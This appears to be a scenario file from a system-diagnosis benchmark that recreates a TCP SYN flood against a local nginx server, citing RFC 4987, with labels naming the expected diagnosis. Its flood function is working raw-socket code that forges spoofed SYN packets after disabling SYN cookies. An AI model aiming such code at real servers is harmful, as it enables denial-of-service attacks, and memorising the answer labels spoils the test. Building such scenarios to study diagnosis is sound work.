"""Somebody sends requests for connections from addresses that never answer: no place is left for those of real clients.

Source: RFC 4987, "TCP SYN Flooding Attacks and Common Mitigations"; net.ipv4.tcp_syncookies in Documentation/networking/ip-sysctl.rst.
"""

import random
import socket
import struct
import time
from pathlib import Path

from programs import nginx, web_clients

CAUSE = "the queue of half-open connections of nginx is full: requests that nobody finishes"
NAMED = r"syn_queue_full"
BLAMED = ""
MOVED = r"syn_queue_full"


def play(scene):
    Path("/proc/sys/net/ipv4/tcp_syncookies").write_text("0")
    scene.run("ip", "route", "add", "198.18.0.0/15", "dev", "lo")  # answers to these addresses end here
    nginx(scene, "location / { return 200 hello; }")
    web_clients(scene, "http://127.0.0.1:8080/")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def flood():
        source = socket.inet_aton(f"198.18.{random.randrange(256)}.{random.randrange(1, 255)}")
        target = socket.inet_aton("127.0.0.1")
        port = random.randrange(1024, 65536)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
        segment = struct.pack("!HHLLBBHHH", port, 8080, random.randrange(1 << 32), 0, 0x50, 0x02, 1024, 0, 0)
        words = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment)) + segment
        total = sum(struct.unpack(f"!{len(words) // 2}H", words))
        total = (total & 0xFFFF) + (total >> 16)
        check = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        raw.sendto(head + segment[:16] + struct.pack("!H", check) + segment[18:], ("127.0.0.1", 0))
        time.sleep(0.005)

    if scene.is_bad:
        scene.fork("flood", flood)
    with scene.recording():
        time.sleep(1)
